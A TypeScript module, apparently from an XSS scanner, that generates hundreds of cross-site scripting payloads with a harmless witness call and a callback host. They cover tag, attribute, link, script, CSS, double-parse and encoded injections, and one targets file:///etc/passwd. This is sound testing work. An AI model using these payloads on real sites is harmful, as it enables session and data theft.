/** Markup, attributes, links, scripts and styles: what acts in a page that forgets to escape. */
import { type Context, type Vector, vector } from "./payload.ts";

type Write = Vector["write"];

/** Elements that act by themselves as soon as they stand in a page. `__mc` is what the witness listens to. */
const ELEMENTS: readonly Write[] = [
  (n) => `<script>__mc(${n})</script>`,
  (n) => `<SCRIPT\n>__mc(${n})</SCRIPT\n>`,
  (n) => `<script/mc>__mc(${n})</script>`,
  (n, c) => `<script src=${c}/${n}></script>`,
  (n, c) => `<script type=module>import("${c}/${n}")</script>`,
  (n) => `<img src=x onerror=__mc(${n})>`,
  (n) => `<img/src=x/onerror=__mc(${n})>`,
  (n) => `<img src=x onerror=&#95;&#95;mc(${n})>`,
  (n) => `<img\tsrc=x\nonerror\r=\f__mc(${n})>`,
  (n) => `<image src=x onerror=__mc(${n})>`,
  (n, c) => `<img src=${c}/${n}>`,
  (n, c) => `<img srcset="${c}/${n} 2x" alt>`,
  (n) => `<svg onload=__mc(${n})>`,
  (n) => `<svg><script>__mc(${n})</script></svg>`,
  (n) => `<svg><script>__mc&#40;${n}&#41;</script></svg>`,
  (n) => `<svg><animate onbegin=__mc(${n}) attributeName=x dur=1s>`,
  (n) => `<svg><set onbegin=__mc(${n}) attributeName=x to=1>`,
  (n, c) => `<svg><image href=${c}/${n} width=9 height=9 /></svg>`,
  (n) => `<svg><foreignObject><iframe srcdoc="<script>parent.__mc(${n})</script>"></iframe></foreignObject>`,
  (n) => `<svg><style>@import "x"</style><image href=x onerror=__mc(${n})>`,
  (n) => `<iframe onload=__mc(${n})></iframe>`,
  (n) => `<iframe src="javascript:parent.__mc(${n})"></iframe>`,
  (n) => `<iframe srcdoc="<script>parent.__mc(${n})</script>"></iframe>`,
  (n, c) => `<iframe src=${c}/${n}></iframe>`,
  (n, c) => `<embed src=${c}/${n}>`,
  (n, c) => `<object data=${c}/${n}></object>`,
  (n) => `<video><source onerror=__mc(${n})></video>`,
  (n) => `<video src=x onerror=__mc(${n})></video>`,
  (n) => `<audio src=x onerror=__mc(${n})></audio>`,
  (n, c) => `<video poster=${c}/${n}></video>`,
  (n, c) => `<video autoplay><track default src=${c}/${n}></video><img src=${c}/${n}>`,
  (n) => `<details open ontoggle=__mc(${n})>x</details>`,
  (n) => `<input autofocus onfocus=__mc(${n})>`,
  (n) => `<select autofocus onfocus=__mc(${n})></select>`,
  (n) => `<textarea autofocus onfocus=__mc(${n})></textarea>`,
  (n) => `<button autofocus onfocus=__mc(${n})>x</button>`,
  (n) => `<b tabindex=1 autofocus onfocus=__mc(${n})>x</b>`,
  (n) => `<b style=display:block;content-visibility:auto oncontentvisibilityautostatechange=__mc(${n})>x</b>`,
  (n) => `<style onload=__mc(${n})></style>`,
  (n, c) => `<link rel=stylesheet href=${c}/${n}>`,
  (n, c) => `<link rel=preload as=image href=${c}/${n}>`,
  (n) => `<style>@keyframes m{}</style><b style="animation:m 1ms" onanimationend=__mc(${n})>x</b>`,
  (n, c) => `<meta http-equiv=refresh content="0;url=${c}/${n}">`,
  (n, c) => `<base href=${c}/${n}/><img src=x>`,
  (n) => `<body onpageshow=__mc(${n})>`,
  (n) => `<math><mi><img src=x onerror=__mc(${n})></mi></math>`,
  (n) => `<div><template shadowrootmode=open><img src=x onerror=__mc(${n})></template></div>`,
  (n) => `<dialog open onfocusin=__mc(${n})><input autofocus></dialog>`,
  (n, c) => `<table background=${c}/${n}><td>x</table>`,
  (n, c) => `<input type=image src=${c}/${n}>`,
  (n) => `<img src=x onerror="alert(${n})">`,
  (n) => `<img src=x onerror="confirm(${n})">`,
  (n, c) => `<img src=x onerror="fetch('${c}/${n}')">`,
  (n, c) => `<img src=x onerror="navigator.sendBeacon('${c}/${n}')">`,
  (n, c) => `<img src=x onerror="location='${c}/${n}'">`,
  (n) => `<img src=x onerror=top['__m'+'c'](${n})>`,
  (n) => `<img src=x onerror=setTimeout\`__mc\\x28${n}\\x29\`>`,
  (n) => `<img src=x onerror="import('data:text/javascript,__mc(${n})')">`,
  (n) => `<a id=x href=javascript:__mc(${n})>Xem thêm</a>`,
  (n, c) => `<form id=x action=${c}/${n}><button>Gửi</button></form>`,
];

/** Elements short enough to stand behind something that closes what they stand in. */
const SHORT: readonly Write[] = [
  (n) => `<script>__mc(${n})</script>`,
  (n) => `<img src=x onerror=__mc(${n})>`,
  (n) => `<svg onload=__mc(${n})>`,
  (n) => `<details open ontoggle=__mc(${n})>`,
  (n, c) => `<img src=${c}/${n}>`,
  (n) => `<input autofocus onfocus=__mc(${n})>`,
];

/** What closes each place; behind it markup is read again. */
const CLOSERS: readonly (readonly [Context, string])[] = [
  ["double-quoted", '">'],
  ["double-quoted", '"/>'],
  ["single-quoted", "'>"],
  ["unquoted", " >"],
  ["title", "</title>"],
  ["textarea", "</textarea>"],
  ["textarea", "</TEXTAREA\n>"],
  ["style", "</style>"],
  ["script-double", "</script>"],
  ["script-double", "</script x>"],
  ["json", "</ScRiPt>"],
  ["comment", "-->"],
  ["comment", "--!>"],
  ["noscript", "</noscript>"],
  ["select", "</select>"],
  ["iframe", "</iframe>"],
];

/** Attributes that are added to one that a text could close. */
const ATTRIBUTES: readonly Write[] = [
  (n) => `autofocus onfocus=__mc(${n})`,
  (n) => `onfocus=__mc(${n})\tautofocus`,
  (n) => `autofocus/onFocus=__mc(${n})`,
  (n) => `type=image src=x onerror=__mc(${n})`,
  (n, c) => `type=image src=${c}/${n}`,
  (n) => `style=content-visibility:auto oncontentvisibilityautostatechange=__mc(${n})`,
  (n) => `id=x onclick=__mc(${n})`,
];

/** Addresses that are programs, or lead where nobody wants to go. */
const LINKS: readonly Write[] = [
  (n) => `javascript:__mc(${n})`,
  (n) => `JaVaScRiPt:__mc(${n})`,
  (n) => `  javascript:__mc(${n})`,
  (n) => `java\nscript:__mc(${n})`,
  (n) => `java\tscript:__mc(${n})`,
  (n) => `\u0001javascript:__mc(${n})`,
  (n) => `javascript:/*https://phuochuu.example/*/__mc(${n})`,
  (n) => `javascript://phuochuu.example/%0a__mc(${n})`,
  (n) => `javascript:%5f_mc(${n})`,
  (n) => `javascript:void%20__mc(${n})`,
  (n) => `javascript:top.__mc(${n})//.pdf`,
  (_, c) => `${c.replace("http:", "")}/link`,
  (_, c) => `\\\\${c.replace("http://", "")}/link`,
  (_, c) => `https:${c.replace("http:", "")}@phuochuu.example/`,
  (n) => `data:text/html,<script>__mc(${n})</script>`,
  (n) => `data:text/html;base64,${Buffer.from(`<script>__mc(${n})</script>`).toString("base64")}`,
  (n) => `vbscript:__mc(${n})`,
  (n) => `https://phuochuu.example/"onmouseover="__mc(${n})`,
  (n) => `https://phuochuu.example/'><img src=x onerror=__mc(${n})>`,
  (n) => `blob:https://phuochuu.example/${n}`,
  (n) => `file:///etc/passwd?${n}`,
  (n) => `intent://mc${n}#Intent;scheme=javascript;end`,
];
/** Of those, the ones that a click on a link carries out in today's browsers. */
const CLICKABLE = /^\W*j\s*a\s*v\s*a\s*s/i;

const SCRIPTS: readonly (readonly [Context, Write])[] = [
  ["script-double", (n) => `";__mc(${n});"`],
  ["script-double", (n) => `"+__mc(${n})+"`],
  ["script-escaped", (n) => `\\";__mc(${n});//`],
  ["script-single", (n) => `';__mc(${n});'`],
  ["script-single", (n) => `'-__mc(${n})-'`],
  ["script-escaped", (n) => `\\";__mc(${n})\n//`],
  ["script-template", (n) => `\${__mc(${n})}`],
  ["script-template", (n) => `\`;__mc(${n});\``],
  ["script-comment", (n) => `\u2028__mc(${n})//`],
  ["script-comment", (n) => `\u2029__mc(${n})//`],
  ["script-comment", (n) => `\n__mc(${n})//`],
  ["json", (n) => `</script><script>__mc(${n})//`],
];

const STYLES: readonly (readonly [Context, Write])[] = [
  ["css-value", (n, c) => `red;background:url(${c}/${n})`],
  ["css-value", (n, c) => `red}*{background:url(${c}/${n})}`],
  ["css-value", (n, c) => `url(${c}/${n})}b{background:url(${c}/${n})`],
  ["css-value", (n) => `red}</style><script>__mc(${n})</script>`],
  ["css-rule", (n, c) => `@import '${c}/${n}';`],
  ["css-rule", (n, c) => `*{background:url(${c}/${n})}`],
  ["css-rule", (n, c) => `@font-face{font-family:m;src:url(${c}/${n})}*{font-family:m}`],
  ["css-rule", (n, c) => `*{background:\\75 rl(${c}/${n})}`],
];

/**
 * Harmless once read, markup when what was read is written and read again. The last two rest on "<" that stands unescaped
 * in attributes that a browser has written, which Chromium escapes since release 138: they must stay as they are.
 */
const TWICE: readonly (readonly [Context | null, Write])[] = [
  ["parsed-twice", (n) => `<svg></p><style><a id="</style><img src=1 onerror=__mc(${n})>">`],
  ["parsed-twice", (n) => `<textarea>&lt;/textarea&gt;</textarea><img src=x onerror=__mc(${n})>`],
  ["parsed-twice", (n) => `<p id="\`\`onerror=__mc(${n})"><xmp></xmp><img src=x onerror=__mc(${n})>`],
  [null, (n) => `<noscript><p title="</noscript><img src=x onerror=__mc(${n})>">`],
  [
    null,
    (n) =>
      `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=__mc(${n})&gt;">`,
  ],
];

const MARKUP: readonly [string, string][] = [
  ["<img src=x onerror=__mc(", ")>"],
  ["<svg onload=__mc(", ")>"],
  ["<script>__mc(", ")</script>"],
];
const hex = (text: string, width: number) => text.charCodeAt(0).toString(16).padStart(width, "0");
/** ASCII as the wide letters that a compatibility normalisation turns back. */
const wide = (text: string) =>
  text.replace(/[!-~]/g, (c) => String.fromCodePoint((c.codePointAt(0) ?? 0) + 0xfee0));
const ENCODINGS: readonly (readonly [Context, (markup: string) => string])[] = [
  ["url-decoded", (text) => encodeURIComponent(text).replace(/[()]/g, (c) => `%${hex(c, 2)}`)],
  ["url-decoded", (text) => text.replace(/[<>]/g, (c) => `%${hex(c, 2)}`)],
  ["entity-decoded", (text) => text.replace(/[<>]/g, (c) => (c === "<" ? "&lt;" : "&gt;"))],
  ["entity-decoded", (text) => text.replace(/[<>()]/g, (c) => `&#${c.charCodeAt(0)};`)],
  ["entity-decoded", (text) => text.replace(/[<>]/g, (c) => `&#x${hex(c, 6)};`)],
  ["escape-decoded", (text) => text.replace(/[<>]/g, (c) => `\\u${hex(c, 4)}`)],
  ["escape-decoded", (text) => text.replace(/[<>]/g, (c) => `\\x${hex(c, 2)}`)],
  ["compatibility-folded", (text) => text.replace(/[<>]/g, (c) => wide(c))],
  ["compatibility-folded", wide],
];

export const MARKUP_VECTORS: readonly Vector[] = [
  ...ELEMENTS.map((write) => vector("element", "body", write)),
  ...CLOSERS.flatMap(([context, close]) =>
    SHORT.map((write) => vector("break-out", context, (n, c) => close + write(n, c))),
  ),
  ...(["double-quoted", "single-quoted", "unquoted"] as const).flatMap((context) =>
    ATTRIBUTES.map((write) =>
      vector("attribute", context, (n, c) => {
        const quote = { "double-quoted": '"', "single-quoted": "'", unquoted: "" }[context];
        return `x${quote} ${write(n, c)}${quote ? ` x=${quote}` : ""}`;
      }),
    ),
  ),
  ...LINKS.map((write) => vector("link", CLICKABLE.test(write(0, "http://x")) ? "link" : null, write)),
  ...SCRIPTS.map(([context, write]) => vector("script", context, write)),
  ...STYLES.map(([context, write]) => vector("style", context, write)),
  ...TWICE.map(([context, write]) => vector("twice-read", context, write)),
  ...ENCODINGS.flatMap(([context, encode]) =>
    MARKUP.map(([before, after]) => vector("encoded", context, (n) => encode(`${before}${n}${after}`))),
  ),
];
